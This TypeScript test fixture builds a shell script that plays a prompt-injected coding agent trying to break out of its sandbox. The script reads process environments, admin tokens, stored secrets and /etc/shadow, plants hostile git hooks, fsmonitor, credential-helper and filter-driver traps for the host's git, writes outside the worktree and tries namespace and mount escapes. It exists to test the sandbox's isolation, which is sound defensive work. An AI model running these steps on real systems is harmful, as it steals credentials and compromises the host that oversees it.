/**
 * A prompt-injected agent as a POSIX shell script (issue 10): run by the `command` adapter as a
 * file, and by the real opencode through its `bash` tool as the command text. It tries every route
 * the issue lists, writes what it got to `loot.txt` in its worktree (which kugetsu commits and
 * pushes) and to stdout (the log and the status comment's tail), and leaves work behind so that
 * kugetsu commits and pushes. Nothing in it runs git after the traps are planted: any mark a trap
 * leaves comes from kugetsu's own git.
 */

/** Options of {@link hostileScript}. */
export interface HostileOptions {
  /** A host directory, invisible in the sandbox: any program that runs on the host or reaches it writes here. */
  marks: string;
  /** Host pids to read `/proc/<pid>/environ` and `cmdline` of (kugetsu's, the test runner's). */
  pids: number[];
  /** Unique id of this test run (names of files written outside the worktree). */
  runId: string;
}

/** The hooks git(1) runs (githooks(5)): each planted one leaves marks when run. */
const HOOKS =
  'pre-commit prepare-commit-msg commit-msg post-commit pre-push post-checkout post-merge reference-transaction pre-auto-gc post-rewrite post-index-change fsmonitor-watchman';

/** The script text; `$1`-free, so that it runs the same as a file and as a `bash` tool command. */
export function hostileScript(o: HostileOptions): string {
  const pids = o.pids.map((p) => `/proc/${p}`).join(' ');
  return `
MARKS='${o.marks}'
RUN='${o.runId}'
loot="$PWD/loot.txt"
STATE="\${PWD%/worktrees/*}"
say() { printf '%s\\n' "$*" >> "$loot"; printf '%s\\n' "$*"; }
grab() { label="$1"; shift; say "== $label"; out=$("$@" 2>&1 | head -c 4000); say "$out"; }
say "== turn of \${KUGETSU_ISSUE_KEY:-opencode} pid $$ id $(id)"
if [ -n "\${KUGETSU_SESSION_FILE:-}" ]; then
  say "session-in: \${KUGETSU_SESSION_ID:-}"
  [ -n "\${KUGETSU_SESSION_ID:-}" ] || echo ses_hostile_1 > "$KUGETSU_SESSION_FILE"
fi

# 1. Every process's environment and command line, kugetsu's pid included.
for p in /proc/[0-9]* ${pids}; do
  grab "environ $p" sh -c "tr '\\\\0' '\\\\n' < $p/environ"
  grab "cmdline $p" sh -c "tr '\\\\0' ' ' < $p/cmdline"
done
grab "own env" env

# 2. The state dir: list it, read the admin token, the database, stored secrets, other issues.
grab "ls state" ls -laR "$STATE"
for f in "$STATE/admin-token" "$STATE/kugetsu.db" "$STATE"/secrets/* "$STATE"/secrets/*/* \\
         "$STATE"/worktrees/*/*/*/* "$STATE"/prompts/*/*/*/* "$STATE"/sessions/*/*/* \\
         "$STATE"/repos/*/*/config "$STATE"/logs/* /etc/shadow; do
  grab "read $f" head -c 2000 "$f"
done
grab "find /" find / -xdev -maxdepth 6 -name 'admin-token' -o -xdev -maxdepth 6 -name '*.secret' -o -xdev -maxdepth 6 -name 'kugetsu.db'

# 3. Traps for kugetsu's git: hooks, a hooks path, fsmonitor, a filter driver, credential helper,
#    askpass, ssh command, pager, include, worktree config, a commondir of its own.
g="$PWD/.git"
evil="$g/evil.sh"
cat > "$evil" <<EOF
#!/bin/sh
echo "\\$0 \\$* ran" >> '$MARKS/ran' 2>/dev/null
env > '$MARKS/env-'\\$\\$ 2>/dev/null
tr '\\\\0' '\\\\n' < /proc/\\$PPID/environ > '$MARKS/parent-env-'\\$\\$ 2>/dev/null
echo "\\$0 \\$*" >> '$PWD/HOOK-RAN'
cat
EOF
chmod +x "$evil"
mkdir -p "$g/hooks" "$g/evil-hooks" "$g/info"
for h in ${HOOKS}; do
  printf '#!/bin/sh\\nexec "%s" hook-%s "$@"\\n' "$evil" "$h" > "$g/hooks/$h"
  cp "$g/hooks/$h" "$g/evil-hooks/$h"
  chmod +x "$g/hooks/$h" "$g/evil-hooks/$h"
done
cat >> "$g/config" <<EOF
[core]
	hooksPath = $g/evil-hooks
	fsmonitor = $evil
	askPass = $evil
	sshCommand = $evil
	pager = $evil
[filter "evil"]
	clean = $evil clean
	smudge = $evil smudge
	required = true
[credential]
	helper = !$evil credential
[include]
	path = $g/evil.config
[extensions]
	worktreeConfig = true
EOF
printf '[core]\\n\\tfsmonitor = %s\\n' "$evil" > "$g/evil.config"
printf '[core]\\n\\thooksPath = %s\\n' "$g/evil-hooks" > "$g/config.worktree"
printf '* filter=evil\\n' > "$g/info/attributes"
printf '* filter=evil\\n' > .gitattributes
mkdir -p "$g/evil-common/hooks" && cp "$g/hooks/pre-push" "$g/evil-common/hooks/" && printf '[core]\\n\\tfsmonitor = %s\\n' "$evil" > "$g/evil-common/config"
# ...and in the shared clone, whose objects the sandbox shows.
for c in "$STATE"/repos/*/*.git; do
  grab "plant in $c" sh -c "mkdir -p '$c/hooks' && cp '$g/hooks/pre-push' '$c/hooks/pre-push' && printf '[core]\\\\n\\\\tfsmonitor = $evil\\\\n' >> '$c/config'"
  grab "write clone objects" sh -c "echo pwned > '$c/objects/pwned-$RUN'"
done

# 4. Writes outside the worktree.
for f in "$STATE/pwned-$RUN" "$STATE/worktrees/acme/app/issue-2/pwned-$RUN" "/tmp/pwned-$RUN" "/usr/pwned-$RUN" "/etc/pwned-$RUN" "$MARKS/direct-$RUN"; do
  grab "write $f" sh -c "echo pwned > '$f' && echo written"
done
grab "new user namespace" unshare -U true
grab "mount" mount -t tmpfs none /mnt

# 5. Work for kugetsu to commit (with the traps in place); the commondir goes last.
echo "plain work of \${KUGETSU_ISSUE_KEY:-opencode}" > "work-$$-$(date +%s%N).txt"
echo "$g/evil-common" > "$g/commondir"
say "== done"
exit 0
`;
}
